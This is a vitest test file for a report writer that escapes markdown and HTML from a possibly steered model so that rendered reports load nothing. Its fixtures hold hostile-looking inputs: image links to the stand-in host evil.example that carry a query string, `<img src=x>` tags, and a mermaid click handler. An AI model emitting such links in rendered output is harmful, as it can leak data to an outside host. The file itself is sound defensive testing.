import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { reportAppendix } from '../../../src/rlm/report/reportAppendix';
import { ReportSpool } from '../../../src/rlm/report/reportSpool';
import { SavedDocuments } from '../../../src/rlm/report/savedDocuments';
import { type TemporaryFolder, temporaryFolder } from '../../host/folders';

let folder: TemporaryFolder;
let path: string;
let spool: ReportSpool;

beforeEach(async () => {
  folder = await temporaryFolder('safe-report');
  path = join(folder.path, 'report.md');
  spool = new ReportSpool({ path, sidePath: join(folder.path, 'parts') });
});
afterEach(async () => {
  await folder[Symbol.asyncDispose]();
});

const text = () => readFile(path, 'utf8');
const write = (place: number, piece: string) => spool.write(place, Buffer.from(piece));
const finish = async () => {
  await spool.finish();
  await spool.dispose();
  return text();
};

describe('a report of a steered model', () => {
  it('loads nothing, in whatever pieces it comes', async () => {
    for (const piece of [
      'see !',
      '[x](http',
      '://evil.example/?q=s) <im',
      'g src=x>',
      ' `<b',
      '>`\n',
    ]) {
      await write(spool.root, piece);
    }
    expect(await finish()).toBe('see !\\[x]\\(http://evil.example/?q=s) &lt;img src=x> `<b>`\n');
  });

  it('has its pictures in headings neither', async () => {
    const a = await spool.openSection(spool.root, '![x](http://evil.example)', 2);
    await write(a, 'Text.\n');
    expect(await finish()).toBe('## !\\[x]\\(http://evil.example)\n\nText.\n');
  });

  it('has in one part no code that another part makes text of', async () => {
    await write(spool.root, 'A `\n');
    const part = spool.openPart(spool.root);
    await write(part, '![x](http://evil.example) ` b\n');
    await spool.close(part);
    const safe = await finish();
    expect(safe).toContain('!\\[x]\\(http://evil.example)');
  });

  it('has no fence that another part ends', async () => {
    await write(spool.root, '```\nx\n');
    const part = spool.openPart(spool.root);
    await write(part, '```\n![x](http://evil.example)\n```\n');
    await spool.close(part);
    // The fence was ended before the part, so this is the part's own code.
    expect(await finish()).toBe('```\nx\n```\n\n```\n![x](http://evil.example)\n```\n');
  });

  it('keeps code of a part as it is, after an empty line where that is what makes it code', async () => {
    const part = spool.openPart(spool.root);
    await write(part, 'Uses `Vec<u8>`.\n');
    await spool.close(part);
    await write(spool.root, 'Then `Map<a>`.\n');
    expect(await finish()).toBe('Uses `Vec<u8>`.\n\nThen `Map<a>`.\n');
  });

  it('has no diagram that acts, also when the diagram comes in pieces', async () => {
    await write(spool.root, '```mermaid\ngraph TD\n');
    await write(spool.root, '  A-->B\n  click A "https://evil.example"\n```\n');
    expect(await finish()).toMatch(/^```text\ngraph TD\n/);
  });

  it('names hostile models and files as text at its end', () => {
    const appendix = reportAppendix(
      { citations: [{ path: '<img src=x>', start: 1, end: 1, evidence: 'read' }], unchecked: 0 },
      { filesTotal: 1, filesListed: 1, filesMatched: 1, filesRead: 1, filesSentToModels: 1 },
      ['![x](http://evil.example)'],
      'm![x](http://evil.example)\n<img src=x>',
    );
    expect(appendix).toContain('- `<img src=x>:1`');
    expect(appendix).toContain('- !\\[x]\\(http://evil.example)\n');
    expect(appendix).toContain(
      '*Written by Fathom with m!\\[x]\\(http://evil.example) &lt;img src=x>.*',
    );
  });

  it('is so for documents beside it that viewers render, and leaves code alone', async () => {
    const documents = new SavedDocuments(join(folder.path, 'documents'));
    const page = Buffer.from('<img src=x>\n');
    const notes = await documents.save('Notes', page, null);
    const code = await documents.save('page.html', page, null);
    expect(await readFile(notes.path, 'utf8')).toBe('&lt;img src=x>\n');
    expect(notes.bytes).toBe(15);
    expect(await readFile(code.path, 'utf8')).toBe('<img src=x>\n');
  });
});
